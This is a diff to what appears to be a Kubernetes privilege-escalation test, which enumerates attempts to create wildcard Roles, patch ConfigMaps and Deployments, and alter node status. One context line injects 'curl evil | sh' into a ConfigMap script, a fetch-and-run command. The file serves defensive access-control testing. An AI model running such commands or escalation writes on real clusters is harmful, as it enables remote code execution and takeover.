@@ -167,7 +167,7 @@ def common(account: tuple[str, str]) -> Iterator[Attempt]:
         yield create(RBAC, "ClusterRoleBinding", "clusterrolebindings", **binding(account, role))
         yield create(RBAC, "RoleBinding", "rolebindings", "kube-system", **binding(account, role))
     for namespace in ("kube-system", "default", SYSTEM, CACHE, PLATFORM):
-        for name in ("evil", "avactl-topology", "pipeline-state.vision.evil"):
+        for name in ("evil", "avactl-topology", "pipeline-state.vision.evil", "promotion-state.vision.evil"):
             yield create(RBAC, "Role", "roles", namespace, name, rules=[EVERYTHING])
             yield create(RBAC, "RoleBinding", "rolebindings", namespace, name, **binding(account, name, "Role"))
     for name in (account[1], "avactl-scheduler"):
@@ -486,9 +486,12 @@ def own_attempts(name: str) -> Iterator[Attempt]:
             yield patch("v1", "configmaps", CACHE, "write-alluxio", {"data": {"fuse.sh": "curl evil | sh"}})
             yield create("v1", "ConfigMap", "configmaps", CACHE, "tier.evil", data={"tier.json": "{}"})
         case "delivery":
-            yield patch("v1", "configmaps", SYSTEM, "avactl-policy", {"data": {"a": "b"}})
+            for name in ("avactl-policy", "promotion.vision.detect", "health-report.vision.detect.source"):
+                yield patch("v1", "configmaps", SYSTEM, name, {"data": {"a": "b"}})
             yield job(TEAM, pod("avactl-run"))
             yield create("v1", "ConfigMap", "configmaps", SYSTEM)
+            # It records the health of services, and changes them in git only.
+            yield patch("apps/v1", "deployments", TEAM, "detect", {"metadata": {"annotations": {"a": "b"}}})
         case "topology":
             conditions = [{"type": "Ready", "status": "False"}]
             yield patch("v1", "nodes", "", "machine", {"status": {"conditions": conditions}}, "/status")
